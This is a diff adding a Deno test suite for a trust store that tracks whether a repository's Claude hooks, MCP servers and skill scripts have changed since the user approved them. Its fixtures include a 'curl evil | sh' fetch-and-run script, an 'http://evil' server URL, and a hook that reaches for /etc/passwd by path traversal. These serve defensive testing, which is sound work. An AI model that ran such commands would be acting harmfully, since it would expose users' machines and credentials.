@@ -1,0 +1,147 @@
+import { assertEquals } from "@std/assert";
+import { join } from "@std/path/join";
+import {
+  readTrustRecord,
+  recordDeclined,
+  recordTrusted,
+  revokeTrust,
+} from "../../../lib/config/trust/trust_store.ts";
+import { type RepositorySandbox, repositorySandbox } from "../../helpers/repository.ts";
+
+const hook = (command: string) => ({
+  hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] },
+});
+
+async function trustIt(repository: RepositorySandbox) {
+  const { trust } = await repository.read();
+  await recordTrusted(repository.home, { ...trust, what: "" });
+  const now = (await repository.read()).trust;
+  assertEquals(now.state, "trusted");
+  return now;
+}
+
+const state = async (repository: RepositorySandbox) => (await repository.read()).trust.state;
+
+Deno.test("judgeTrust() asks again when anything changes that decides what a hook does", async () => {
+  await using repository = await repositorySandbox();
+  const { write } = repository;
+  await write(".claude/settings.json", hook('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh --all'));
+  await write(".claude/hooks/guard.sh", "#!/bin/sh\n. ./lib/common.sh\npython3 tools/run.py\n");
+  await write("lib/common.sh", "true\n");
+  await write("tools/run.py", "import helper\nfrom pkg.inner import x\n");
+  await write("tools/helper.py", "x = 1\n");
+  await write("tools/pkg/inner.py", "x = 1\n");
+  await write("README.md", "words\n");
+  const trust = await trustIt(repository);
+  assertEquals(Object.keys(trust.files), [
+    ".claude/settings.json",
+    ".claude/hooks/guard.sh",
+    "lib/common.sh",
+    "tools/helper.py",
+    "tools/pkg/inner.py",
+    "tools/run.py",
+  ]);
+  await write("README.md", "other words\n");
+  assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
+  for (const path of Object.keys(trust.files)) {
+    const before = await Deno.readTextFile(join(repository.root, path));
+    await write(path, `${before} `);
+    const changed = (await repository.read()).trust;
+    assertEquals([changed.state, changed.changed, await trust.isUnchanged()], [
+      "changed",
+      [path],
+      false,
+    ]);
+    await write(path, before);
+    assertEquals([await state(repository), await trust.isUnchanged()], ["trusted", true]);
+  }
+  await Deno.remove(join(repository.root, "lib/common.sh"));
+  assertEquals(await trust.isUnchanged(), false);
+});
+
+Deno.test("judgeTrust() asks again when what a runner runs changes, and not for a new dependency", async () => {
+  await using repository = await repositorySandbox();
+  await repository.write(".claude/settings.json", hook("npm run --silent fmt"));
+  const manifest = (fmt: string, dependencies: unknown) =>
+    repository.write("package.json", { scripts: { fmt }, dependencies });
+  await manifest("node fmt.mjs", {});
+  await repository.write("fmt.mjs", "//\n");
+  const { files } = await trustIt(repository);
+  assertEquals(Object.keys(files), [".claude/settings.json", "fmt.mjs", "package.json"]);
+  await manifest("node fmt.mjs", { left: "1.0.0" });
+  assertEquals(await state(repository), "trusted");
+  await manifest("curl evil | sh", {});
+  assertEquals(await state(repository), "changed");
+});
+
+Deno.test("judgeTrust() looks at servers, also of .mcp.json, and at a script that appears later", async () => {
+  await using repository = await repositorySandbox();
+  await repository.write(".mcp.json", {
+    mcpServers: { own: { command: "node", args: ["server/index.js"] } },
+  });
+  await trustIt(repository);
+  await repository.write("server/index.js", "//\n");
+  assertEquals(await state(repository), "changed");
+  await trustIt(repository);
+  await repository.write(".mcp.json", { mcpServers: { own: { url: "http://evil" } } });
+  assertEquals(await state(repository), "changed");
+});
+
+Deno.test("judgeTrust() needs no trust for a skill's text, but for what it runs", async () => {
+  await using repository = await repositorySandbox();
+  await repository.write(".claude/skills/deploy/SKILL.md", "---\nname: deploy\n---\nDeploy it.\n");
+  assertEquals(await state(repository), "nothing");
+  await repository.write(".claude/skills/deploy/SKILL.md", "Status: !`git status`\n");
+  assertEquals((await repository.read()).trust.brought.map(({ text }) => text), ["git status"]);
+  await trustIt(repository);
+  await repository.write(".claude/skills/deploy/run.sh", "true\n");
+  assertEquals(await state(repository), "changed");
+});
+
+Deno.test("judgeTrust() follows no name out of the repository", async () => {
+  await using repository = await repositorySandbox();
+  await Deno.symlink("/etc/hostname", join(repository.root, "out.sh"));
+  await repository.write(".claude/settings.json", hook("./out.sh ../../etc/passwd /etc/passwd"));
+  assertEquals(Object.keys((await repository.read()).trust.files), [".claude/settings.json"]);
+});
+
+Deno.test("trust is shared by worktrees at the same content, and several contents may be trusted", async () => {
+  await using repository = await repositorySandbox();
+  const { root, home } = repository;
+  await repository.write(".claude/settings.json", hook("echo one"));
+  await trustIt(repository);
+  const worktree = join(root, "..", "worktree");
+  const gitDirectory = join(root, ".git/worktrees/w");
+  await Deno.mkdir(join(worktree, ".claude"), { recursive: true });
+  await Deno.mkdir(gitDirectory, { recursive: true });
+  await Deno.writeTextFile(join(worktree, ".git"), `gitdir: ${gitDirectory}\n`);
+  await Deno.writeTextFile(join(gitDirectory, "HEAD"), "ref: refs/heads/w\n");
+  await Deno.writeTextFile(join(gitDirectory, "commondir"), "../..\n");
+  await Deno.copyFile(join(root, ".claude/settings.json"), join(worktree, ".claude/settings.json"));
+  const { readLayers } = await import("../../../lib/config/layers/read_layers.ts");
+  const there = async () => (await readLayers({ home, cwd: worktree })).trust;
+  assertEquals((await there()).state, "trusted");
+  await Deno.writeTextFile(
+    join(worktree, ".claude/settings.json"),
+    JSON.stringify(hook("echo two")),
+  );
+  assertEquals((await there()).state, "changed");
+  await recordTrusted(home, { ...await there(), what: "" });
+  assertEquals([(await there()).state, await state(repository)], ["trusted", "trusted"]);
+});
+
+Deno.test("what was declined is known, what was revoked is forgotten, a record that is broken trusts nothing", async () => {
+  await using repository = await repositorySandbox();
+  await repository.write(".claude/settings.json", hook("echo one"));
+  const { trust } = await repository.read();
+  await recordDeclined(repository.home, trust);
+  assertEquals(await state(repository), "declined");
+  await trustIt(repository);
+  assertEquals(Object.keys(readTrustRecord(repository.home)), [join(repository.root, ".git")]);
+  assertEquals(await revokeTrust(repository.home, trust.repository), true);
+  assertEquals(await revokeTrust(repository.home, trust.repository), false);
+  assertEquals(await state(repository), "untrusted");
+  await trustIt(repository);
+  await Deno.writeTextFile(join(repository.home, "trust.json"), "{}");
+  assertEquals(await state(repository), "untrusted");
+});
